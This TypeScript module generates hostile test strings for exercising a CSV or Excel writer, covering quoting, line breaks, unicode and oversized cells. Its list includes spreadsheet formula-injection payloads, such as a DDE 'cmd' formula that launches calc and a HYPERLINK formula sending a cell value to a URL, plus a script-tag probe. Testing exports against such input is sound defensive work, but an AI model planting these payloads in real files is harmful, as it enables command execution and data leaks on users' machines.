import type { Random } from './random';

/** Texts which break a careless CSV or Excel writer: quoting, line ends, formulas, encodings, white space. */
export const HOSTILE_TEXTS = [
  'Plain text without anything special',
  'Hôtel de l’Écluse – café crème, à côté du marché',
  'Comma, semicolon; and "double quotes" in one, short sentence',
  'Two lines\nwith a line feed',
  'Two lines\r\nwith carriage return and line feed',
  'A lone\rcarriage return',
  'Column\tseparated\tby\ttabs',
  '=1+1',
  '=HYPERLINK("https://example.com/?q="&A1,"click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '+49 30 1234567',
  '-12.50',
  '00123',
  '1e5',
  '2026-03-04',
  'TRUE',
  '_x0041_ is not an escaped A',
  '  two spaces before and after  ',
  'Emoji 🏨 family 👨‍👩‍👧 flag 🇫🇷 and é as two code points é',
  '日本語のホテル、駅から徒歩5分',
  'مرحبا بالعالم – right to left',
  "It's an apostrophe, and '=leading",
  '<b>bold</b> &amp; <script>alert(1)</script>',
  'Backslash \\ slash / pipe | caret ^ percent %d ${x}',
  'Last line ends here\n',
  '"',
  '',
] as const;

const LONG_EVERY = 997;
const LONG_LENGTH = 40_000;
const SENTENCE = 'A quiet house near the river, with a garden, "family" rooms and breakfast until 11:00. ';

/**
 * A description: hostile, sometimes missing, now and then longer than an Excel cell may be (32,767 characters).
 *
 * @param index - number of the row, decides which rows are missing or very long
 */
export const describe = (random: Random, index: number): string | null => {
  if (index % LONG_EVERY === LONG_EVERY - 1) {
    return SENTENCE.repeat(Math.ceil(LONG_LENGTH / SENTENCE.length)).slice(0, LONG_LENGTH);
  }

  if (random.chance(0.1)) {
    return null;
  }

  return random.chance(0.5) ? `${random.pick(HOSTILE_TEXTS)} ${SENTENCE}` : random.pick(HOSTILE_TEXTS);
};

/** A short remark: hostile, and missing in a third of the rows. */
export const remark = (random: Random): string | null => (random.chance(0.33) ? null : random.pick(HOSTILE_TEXTS));
